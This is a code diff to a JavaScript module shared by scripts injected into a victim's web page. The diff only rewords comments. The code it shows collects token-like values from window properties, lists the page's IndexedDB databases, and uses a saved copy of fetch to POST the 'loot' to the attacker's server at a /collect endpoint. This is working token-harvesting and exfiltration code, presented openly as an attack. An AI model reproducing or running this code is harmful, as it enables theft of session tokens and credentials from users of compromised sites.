@@ -1,15 +1,15 @@
-// What the injected scripts share. They run in the victim's page, with all the rights of its own scripts.
+// Shared by the injected scripts. They run in the victim's page, with all the rights of the site's scripts.
 
-// Before anybody can put something else in its place.
+// Saved before any other script can replace it.
 const fetch = window.fetch.bind(window);
 
-/** `address` is the script's own: it says where home is, and what it is aimed at. */
+/** `address` is the script's own URL: it contains the attacker's origin and the target. */
 export function aim(address) {
   const { origin: home, searchParams } = new URL(address);
   const parameters = Object.fromEntries(searchParams);
   return {
     ...parameters,
-    /** Brings what was found to the attacker's server, which tries it out before it answers. */
+    /** Sends the loot to the attacker's server, which tries it before it responds. */
     send: (found) =>
       fetch(`${home}/collect?${searchParams}`, { method: "POST", mode: "no-cors", body: JSON.stringify({ found }) }),
     fetch,
@@ -30,7 +30,7 @@ export async function everythingInReach() {
     try {
       if (isToken(window[name])) found.push({ place: "window", name, value: window[name] });
     } catch {
-      // Some properties throw when they are looked at.
+      // Some properties throw when they are read.
     }
   }
   for (const { name } of (await indexedDB.databases?.()) ?? []) found.push({ place: "indexedDB", name, value: "" });
